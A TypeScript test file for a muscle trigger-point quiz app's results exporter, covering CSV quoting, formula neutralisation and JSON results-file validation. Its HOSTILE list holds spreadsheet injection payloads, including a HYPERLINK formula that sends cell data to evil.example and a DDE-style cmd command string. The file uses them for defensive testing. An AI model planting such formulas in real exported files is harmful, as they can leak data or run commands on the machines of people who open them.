import { describe, expect, it } from 'vitest';
import {
  CSV_COLUMNS,
  RESULTS_FORMAT,
  ResultsFileError,
  parseResultsFile,
  sessionsToCsv,
  sessionsToJson,
} from '../../../src/domain/quiz/exportResults.ts';
import type { SessionRecord, SessionResult } from '../../../src/domain/quiz/progress.ts';

const T0 = Date.UTC(2025, 2, 1, 12, 0, 0);

/** A strict RFC 4180 parser: CRLF or LF records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  let wasQuoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"') {
        if (text[i + 1] === '"') {
          field += '"';
          i += 2;
          continue;
        }
        quoted = false;
        i++;
        const next = text[i];
        if (next !== undefined && next !== ',' && next !== '\r' && next !== '\n')
          throw new Error(`text after a closing quote at ${i}`);
        continue;
      }
      field += c;
      i++;
      continue;
    }
    if (c === '"') {
      if (field !== '' || wasQuoted) throw new Error(`a quote inside an unquoted field at ${i}`);
      quoted = true;
      wasQuoted = true;
      i++;
    } else if (c === ',') {
      row.push(field);
      field = '';
      wasQuoted = false;
      i++;
    } else if (c === '\r' || c === '\n') {
      if (c === '\r' && text[i + 1] !== '\n') throw new Error(`a bare CR at ${i}`);
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      wasQuoted = false;
      i += c === '\r' ? 2 : 1;
    } else {
      field += c;
      i++;
    }
  }
  if (quoted) throw new Error('an unclosed quote');
  if (field !== '' || row.length) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

function result(over: Partial<SessionResult> = {}): SessionResult {
  return {
    questionId: 'q1',
    type: 'locate',
    score: 0.75,
    itemKey: 'locate:upper-trapezius-trp1',
    triggerPointId: 'upper-trapezius-trp1',
    muscleId: 'upper-trapezius',
    area: 'head-neck',
    ...over,
  };
}

function session(id: string, results: SessionResult[], over: Partial<SessionRecord> = {}) {
  return {
    id,
    title: `Quiz ${id}`,
    mode: 'practice',
    startedAt: new Date(T0).toISOString(),
    finishedAt: new Date(T0 + 600_000).toISOString(),
    score: 0.5,
    correct: 1,
    total: results.length,
    results,
    ...over,
  } satisfies SessionRecord;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?q="&A1,"Click me")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'comma, inside',
  'say "hello"',
  'line one\nline two',
  'line one\r\nline two',
  '"=quoted start"',
  'plain',
];

describe('the test CSV parser', () => {
  it('reads quoted fields and refuses broken quoting', () => {
    expect(parseCsv('a,"b,""c""\r\nd",e\r\n1,,\r\n')).toEqual([
      ['a', 'b,"c"\r\nd', 'e'],
      ['1', '', ''],
    ]);
    expect(() => parseCsv('a,b"c\r\n')).toThrow();
    expect(() => parseCsv('a,"b\r\n')).toThrow();
    expect(() => parseCsv('a,"b"c\r\n')).toThrow();
  });
});

describe('sessionsToCsv', () => {
  it('writes one row per result under the header, with CRLF line ends', () => {
    const csv = sessionsToCsv([
      session('s1', [result(), result({ questionId: 'q2', score: 0, area: null, muscleId: null })]),
      session('s2', [result({ questionId: 'q3', score: 1, triggerPointId: null })], {
        mode: 'exam',
      }),
    ]);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(4);
    expect(rows[1]).toEqual([
      's1',
      'Quiz s1',
      new Date(T0 + 600_000).toISOString(),
      'practice',
      'q1',
      'locate',
      '0.75',
      'locate:upper-trapezius-trp1',
      'upper-trapezius-trp1',
      'upper-trapezius',
      'head-neck',
    ]);
    expect(rows[2]!.slice(6)).toEqual([
      '0',
      'locate:upper-trapezius-trp1',
      'upper-trapezius-trp1',
      '',
      '',
    ]);
    expect(rows[3]![3]).toBe('exam');
    expect(rows[3]![8]).toBe('');
    expect(sessionsToCsv([], { bom: true })).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('quotes and neutralises hostile text so it reads back as text, never as a formula', () => {
    const sessions = HOSTILE.map((h, i) =>
      session(h, [result({ questionId: h, muscleId: h, area: h, triggerPointId: h })], {
        title: h,
        id: `${h}#${i}`,
      }),
    );
    const rows = parseCsv(sessionsToCsv(sessions));
    expect(rows).toHaveLength(HOSTILE.length + 1);
    HOSTILE.forEach((h, i) => {
      const row = rows[i + 1]!;
      expect(row).toHaveLength(CSV_COLUMNS.length);
      const expected = /^[=+\-@\t\r\n]/.test(h) ? `'${h}` : h;
      const col = (name: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(name)];
      expect(col('title')).toBe(expected);
      expect(col('question_id')).toBe(expected);
      expect(col('trigger_point_id')).toBe(expected);
      expect(col('muscle_id')).toBe(expected);
      expect(col('area')).toBe(expected);
      expect(col('session_id')).toBe(/^[=+\-@\t\r\n]/.test(h) ? `'${h}#${i}` : `${h}#${i}`);
      expect(col('score')).toBe('0.75');
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  });
});

describe('results files', () => {
  const sessions = [
    session('s1', [result(), result({ questionId: 'q2', score: 0 })], { seed: 12 }),
    session('s2', [result()], {
      mode: 'exam',
    }),
  ];

  it('writes the documented object and reads it back', () => {
    const file = sessionsToJson(sessions, T0);
    expect(file).toEqual({
      format: RESULTS_FORMAT,
      version: 1,
      exportedAt: new Date(T0).toISOString(),
      sessions,
    });
    expect(parseResultsFile(JSON.stringify(file, null, 2), 'anna.json')).toEqual(file);
    expect(parseResultsFile(`\uFEFF${JSON.stringify(file)}`, 'anna.json')).toEqual(file);
  });

  const good = () =>
    JSON.parse(JSON.stringify(sessionsToJson(sessions, T0))) as Record<string, unknown> & {
      sessions: Record<string, unknown>[];
    };
  const results = (j: ReturnType<typeof good>, i: number) =>
    j.sessions[i]!.results as Record<string, unknown>[];

  it.each([
    ['not JSON', () => '{"format": "needlewise-results", ', /^ben\.json: \(file\): not JSON/],
    ['an array', () => '[]', /^ben\.json: \(top level\): /],
    [
      'another format',
      () => JSON.stringify({ ...good(), format: 'needlewise-answers' }),
      /^ben\.json: format: /,
    ],
    ['another version', () => JSON.stringify({ ...good(), version: 2 }), /^ben\.json: version: /],
    [
      'a score out of range',
      () => {
        const j = good();
        results(j, 1)[0]!.score = 3;
        return JSON.stringify(j);
      },
      /^ben\.json: sessions\[1\]\.results\[0\]\.score: Too big/,
    ],
    [
      'an unknown key',
      () => {
        const j = good();
        results(j, 0)[1]!.evil = '=1+1';
        return JSON.stringify(j);
      },
      /^ben\.json: sessions\[0\]\.results\[1\]: .*evil/,
    ],
    [
      'a bad time',
      () => {
        const j = good();
        j.sessions[0]!.finishedAt = 'yesterday';
        return JSON.stringify(j);
      },
      /^ben\.json: sessions\[0\]\.finishedAt: /,
    ],
    [
      'a repeated session',
      () => {
        const j = good();
        j.sessions[1]!.id = 's1';
        return JSON.stringify(j);
      },
      /^ben\.json: sessions\[1\]\.id: duplicate session id "s1"/,
    ],
    [
      'a long title',
      () => {
        const j = good();
        j.sessions[0]!.title = 'x'.repeat(201);
        return JSON.stringify(j);
      },
      /^ben\.json: sessions\[0\]\.title: /,
    ],
    [
      'more right than asked',
      () => {
        const j = good();
        j.sessions[0]!.correct = 9;
        return JSON.stringify(j);
      },
      /^ben\.json: sessions\[0\]\.correct: 9 right out of 2/,
    ],
  ])('refuses %s, naming the file and the place', (_name, text, message) => {
    let err: unknown;
    try {
      parseResultsFile(text(), 'ben.json');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(ResultsFileError);
    expect((err as Error).message).toMatch(message);
    expect((err as ResultsFileError).file).toBe('ben.json');
  });
});
